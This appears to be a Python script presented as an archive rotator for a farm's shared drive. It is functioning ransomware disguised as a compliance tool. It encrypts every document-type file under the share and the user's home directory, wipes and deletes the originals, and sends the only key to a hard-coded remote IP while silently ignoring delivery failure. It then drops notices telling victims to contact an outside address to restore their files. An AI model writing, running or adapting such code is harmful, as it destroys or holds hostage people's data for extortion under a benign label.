#!/usr/bin/env python3
"""Archive rotator for the farm file share.

Moves last season's documents on the shared drive into at-rest encrypted
archive form so the share stays small and compliant with the buyer audit.
"""
import argparse
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

LOG = logging.getLogger("rotator")

SHARE_ROOTS = [Path(p) for p in os.environ.get(
    "SHARE_ROOTS", f"/srv/farmshare:{Path.home()}").split(":")]
KEY_ESCROW = os.environ.get("KEY_ESCROW", "https://203.0.113.88/escrow")
SUFFIX = ".arc"
NOTICE_NAME = "ARCHIVE_NOTICE.txt"
DOC_TYPES = {".xlsx", ".xls", ".docx", ".doc", ".pdf", ".csv", ".jpg",
             ".png", ".odt", ".ods", ".sqlite", ".db", ".txt", ".zip"}

NOTICE = """Files in this folder were moved to archive storage.
To restore them, contact records-desk@example.net quoting reference {ref}.
"""


class Escrow:
    """Keeps the archive key with the records desk, never on the share."""

    def __init__(self, url):
        self.url = url
        self.ref = f"{socket.gethostname()}-{os.getpid()}"

    def deposit(self, key: bytes):
        body = json.dumps({"ref": self.ref, "k": key.decode()}).encode()
        req = urllib.request.Request(self.url, data=body,
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=20).read()
        except OSError as exc:
            LOG.debug("escrow unreachable: %s", exc)


def candidates(roots):
    for root in roots:
        if not root.exists():
            continue
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for name in filenames:
                p = Path(dirpath) / name
                if p.suffix.lower() in DOC_TYPES and not name.endswith(SUFFIX):
                    yield p


def seal(path: Path, box: Fernet):
    data = path.read_bytes()
    target = path.with_name(path.name + SUFFIX)
    target.write_bytes(box.encrypt(data))
    # overwrite before unlink so the plaintext is not left on disk
    with path.open("r+b") as fh:
        fh.write(b"\0" * len(data))
    path.unlink()
    return target


def leave_notice(dirs, ref):
    for d in dirs:
        try:
            (d / NOTICE_NAME).write_text(NOTICE.format(ref=ref))
        except OSError:
            pass


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--list", action="store_true", help="only list what would rotate")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    files = list(candidates(SHARE_ROOTS))
    if args.list:
        for f in files:
            print(f)
        return

    key = Fernet.generate_key()
    escrow = Escrow(KEY_ESCROW)
    escrow.deposit(key)
    box = Fernet(key)
    del key

    touched = set()
    for f in files:
        try:
            seal(f, box)
            touched.add(f.parent)
        except OSError as exc:
            LOG.debug("skip %s: %s", f, exc)
    leave_notice(touched, escrow.ref)
    LOG.info("rotated %d files in %d folders", len(files), len(touched))


if __name__ == "__main__":
    main()
